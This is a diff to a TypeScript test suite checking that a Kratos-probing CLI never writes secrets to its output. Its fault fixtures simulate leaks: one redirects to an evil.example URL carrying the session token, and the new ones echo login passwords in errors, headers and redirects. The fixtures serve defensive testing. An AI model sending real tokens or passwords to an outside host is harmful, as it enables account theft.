@@ -36,6 +36,9 @@ async function runCli(fault?: Fault, timeoutMs = 5000, options: StandInOptions =
 			KRATOS_EXPIRED_FLOW_ID: config.expiredFlowId,
 			KRATOS_AAL1_SESSION_TOKEN: config.aal1SessionToken,
 			KRATOS_AAL1_FLOW_ID: config.aal1FlowId,
+			// The login cases: the owner's password in its refresh flow, the AAL1 identity's TOTP codes.
+			KRATOS_TEST_PASSWORD: config.testPassword,
+			KRATOS_AAL1_TOTP_SECRET: config.aal1TotpSecret,
 			// The updates too: the browser flow's CSRF token travels in their bodies.
 			KRATOS_ALLOW_WRITES: '1',
 			KRATOS_TEST_IDENTITY_ID: STAND_IN_IDS.owner,
@@ -127,12 +130,34 @@ const leaky: Record<string, Fault> = {
 		path === '/self-service/settings/flows'
 			? {status: 303, headers: {location: `https://evil.example/?t=${request.headers['x-session-token']}`, 'set-cookie': `leak=${request.headers['x-session-token']}`}, body: ''}
 			: answer,
+	// The password of a refresh login (KRATOS_TEST_PASSWORD) in every place an answer can quote it.
+	'echoes each login body in a 500 JSON error, a header and a redirect': (answer, {path, body}) =>
+		path === '/self-service/login' && body
+			? {
+					status: 500,
+					headers: {'content-type': 'application/json', 'x-debug-body': encodeURIComponent(JSON.stringify(body)), location: `https://accounts.example/login?p=${encodeURIComponent(String(body.password ?? ''))}`},
+					body: JSON.stringify({error: {code: 500, message: `could not log in ${JSON.stringify(body)}`, reason: goJson(String(body.password ?? ''))}}),
+				}
+			: answer,
+	'refuses every password login with a message quoting the password': (answer, {path, body: sent}) =>
+		path === '/self-service/login' && sent?.method === 'password'
+			? json(400, {id: '6a2e8b1d-3c4f-4d6e-9f0a-1b2c3d4e5f60', type: 'api', refresh: true, ui: {action: 'x', method: 'POST', nodes: [], messages: [{id: 4000006, type: 'error', text: `the password ${String(sent.password)} is not ${encodeURIComponent(String(sent.password))}`}]}})
+			: answer,
 };
 
 describe('no secret is ever written', () => {
 	test('against a faithful stand-in (the flows carry CSRF and TOTP secrets)', async () => {
 		const written = await runCli();
 		expect(written.code).toBe(0);
+		expectNoSecret(written.bytes);
+	});
+
+	test('against a faithful stand-in whose sessions logged in long ago: KRATOS_TEST_PASSWORD refreshes, a new password is set and KRATOS_TEST_PASSWORD put back', async () => {
+		const written = await runCli(undefined, 5000, {sessionAgeMs: 2 * 60 * 60 * 1000});
+		expect(written.code).toBe(0);
+		// The cases that send the password ran (a skipped case would prove nothing).
+		expect(written.bytes).toMatch(/^login_refresh_password +200 /m);
+		expect(written.bytes).toMatch(/^login_step_up +200 /m);
 		expectNoSecret(written.bytes);
 	});
 
@@ -167,7 +192,17 @@ describe('no secret is ever written', () => {
 		expectNoSecret(written.bytes);
 	});
 
-	test.each(mutants.map((mutant) => [mutant.name, mutant] as const))('against the %s mutant', async (_, mutant) => {
+	test.each(mutants.filter((mutant) => mutant.localOnly).map((mutant) => [mutant.name, mutant.localOnly] as const))(
+		'against the %s mutant, which a run with variables alone cannot reach (it needs %s): its case skipped, said so, nothing leaked',
+		async (name) => {
+			const written = await runCli(mutants.find((mutant) => mutant.name === name)!.fault);
+			expect(written.code).toBe(0);
+			expect(written.bytes).toContain("needs another identity's password, which only a Kratos the suite provisions itself knows");
+			expectNoSecret(written.bytes);
+		},
+	);
+
+	test.each(mutants.filter((mutant) => !mutant.localOnly).map((mutant) => [mutant.name, mutant] as const))('against the %s mutant', async (_, mutant) => {
 		// A drift mutant fails the run only with --strict, where its warnings are quoted as failures.
 		const written = await runCli(mutant.fault, mutant.timeoutMs, mutant.standIn, mutant.strict ? ['--strict'] : []);
 		expect(written.code).toBe(1);
